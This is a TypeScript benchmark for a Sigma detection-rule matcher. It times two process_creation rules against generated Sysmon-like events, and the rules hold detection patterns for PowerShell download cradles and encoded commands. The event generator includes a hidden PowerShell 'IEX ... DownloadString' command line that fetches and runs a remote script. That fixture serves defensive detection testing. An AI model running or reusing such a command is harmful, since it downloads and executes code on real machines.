// Matcher throughput: two SigmaHQ-shaped process_creation rules (wildcards; regular expressions) over 200,000
// generated Sysmon-like events.
// Run: npx tsx bench/sigma-match.ts [events]. Target: at least 100,000 events/s for matches(), for both rules.
import { parse } from 'yaml';
import { compileRule, type SigmaRuleObject } from '../lib/sigma/match';

const RULE = String.raw`
title: PowerShell Download Cradle From Uncommon Parent
logsource:
    category: process_creation
    product: windows
detection:
    selection:
        Image|endswith:
            - '\powershell.exe'
            - '\pwsh.exe'
            - '\powershell_ise.exe'
        CommandLine|contains|all:
            - 'Net.WebClient'
            - '.DownloadString('
            - 'http'
    selection_flags:
        CommandLine|windash|contains:
            - ' -nop '
            - ' -w hidden '
            - ' -ep bypass '
    filter_main_sccm:
        ParentImage|startswith: 'C:\Windows\CCM\'
    filter_optional_updater:
        ParentCommandLine|contains: '\Company\Updater\update.ps1'
    condition: selection and 1 of selection_flags and not 1 of filter_*
`;

// The same events through `|re` values, the regular expressions SigmaHQ rules write (flags, classes, counted
// repeats, alternatives). Regular expressions run in linear time (RE2), which costs more per character than
// the wildcard matcher; this measures how much.
const REGEX_RULE = String.raw`
title: Encoded PowerShell Command Line
logsource:
    category: process_creation
    product: windows
detection:
    selection_image:
        Image|re|i: '\\(powershell|pwsh|powershell_ise)\.exe$'
    selection_cli:
        CommandLine|re:
            - '\s-[eE][nN][cC]([oO][dD][eE][dD][cC][oO][mM][mM][aA][nN][dD])?\s+[A-Za-z0-9+/=]{20,}'
            - '(?i)(iex|invoke-expression)\s*\(\s*new-object\s+net\.webclient'
            - 'https?://\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}/'
    filter_sccm:
        ParentImage|re|i: '^c:\\windows\\ccm\\'
    condition: 1 of selection_cli and selection_image and not filter_sccm
`;

const TARGET = 100_000;
const COUNT = Number(process.argv[2] ?? 200_000);

// A small deterministic generator, so every run measures the same events.
let seed = 0x2f6b1e9d;
function random(): number {
  seed = (seed * 1_103_515_245 + 12_345) >>> 0;
  return seed / 0x1_0000_0000;
}
function pick<T>(items: readonly T[]): T {
  return items[Math.floor(random() * items.length)] as T;
}

const BENIGN = [
  ['C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule'],
  ['C:\\Windows\\System32\\conhost.exe', '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1'],
  [
    'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
    '"chrome.exe" --type=renderer --lang=en-US --field-trial-handle=1804',
  ],
  [
    'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    'powershell.exe -NoProfile -Command Get-ChildItem C:\\Users',
  ],
  ['C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c dir C:\\ProgramData\\Microsoft'],
  ['C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE'],
] as const;
const ATTACK_CLI =
  'powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.7/a.ps1\')"';
const PARENTS = ['C:\\Windows\\explorer.exe', 'C:\\Windows\\System32\\services.exe', 'C:\\Windows\\CCM\\CcmExec.exe'];

function sysmonEvent(i: number): Record<string, unknown> {
  const roll = random();
  const [image, commandLine] =
    roll < 0.05
      ? [
          pick([
            'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
            'C:\\Program Files\\PowerShell\\7\\pwsh.exe',
          ]),
          ATTACK_CLI,
        ]
      : pick(BENIGN);
  const parent = pick(PARENTS);
  return {
    EventID: 1,
    Channel: 'Microsoft-Windows-Sysmon/Operational',
    Computer: `WS-${(i % 500).toString().padStart(4, '0')}.corp.example`,
    UtcTime: new Date(1_720_000_000_000 + i * 1_000).toISOString(),
    ProcessGuid: `{a1b2c3d4-${(i % 65536).toString(16).padStart(4, '0')}-66a0-0000-001000a0e500}`,
    ProcessId: 1000 + (i % 60000),
    Image: image,
    FileVersion: '10.0.19041.1 (WinBuild.160101.0800)',
    Description: 'Windows process',
    Product: 'Microsoft® Windows® Operating System',
    Company: 'Microsoft Corporation',
    OriginalFileName: image.split('\\').pop() ?? '',
    CommandLine: commandLine,
    CurrentDirectory: 'C:\\Windows\\system32\\',
    User: pick(['CORP\\alice', 'CORP\\bob', 'NT AUTHORITY\\SYSTEM']),
    LogonId: '0x3e7',
    TerminalSessionId: 0,
    IntegrityLevel: pick(['Medium', 'High', 'System']),
    Hashes: 'SHA256=9F914D42706FE215501044ACD85A32D58AAEF1419D404FDDFA5D3B48F66CCD9F',
    ParentProcessId: 700 + (i % 300),
    ParentImage: parent,
    ParentCommandLine: `${parent} ${random() < 0.01 ? '-File C:\\Company\\Updater\\update.ps1' : ''}`.trim(),
  };
}

function measure(label: string, events: readonly unknown[], run: (event: unknown) => boolean): number {
  for (let i = 0; i < Math.min(events.length, 20_000); i++) run(events[i]); // warm up the JIT
  let hits = 0;
  const start = performance.now();
  for (const event of events) if (run(event)) hits++;
  const seconds = (performance.now() - start) / 1000;
  const rate = events.length / seconds;
  console.log(
    `${label.padEnd(22)} ${Math.round(rate).toLocaleString('en-US').padStart(12)} events/s  (${hits.toLocaleString('en-US')} matched, ${(seconds * 1000).toFixed(0)} ms)`,
  );
  return rate;
}

const started = performance.now();
const compiled = compileRule(parse(RULE) as SigmaRuleObject);
console.log(`compiled the rule in ${(performance.now() - started).toFixed(1)} ms`);
const events = Array.from({ length: COUNT }, (_, i) => sysmonEvent(i));
const lines = events.map((e) => JSON.stringify(e));
console.log(`${COUNT.toLocaleString('en-US')} Sysmon-like events generated`);

const rate = measure('matches()', events, (e) => compiled.matches(e));
measure('explain()', events, (e) => compiled.explain(e).match);
measure('JSON.parse + matches()', lines, (l) => compiled.matches(JSON.parse(l as string)));
const regex = compileRule(parse(REGEX_RULE) as SigmaRuleObject);
const regexRate = measure('|re rule: matches()', events, (e) => regex.matches(e));
const fast = rate >= TARGET && regexRate >= TARGET;
console.log(
  fast
    ? `ok: both rules above the ${TARGET.toLocaleString('en-US')} events/s target`
    : `SLOW: below the ${TARGET.toLocaleString('en-US')} events/s target`,
);
process.exitCode = fast ? 0 : 1;
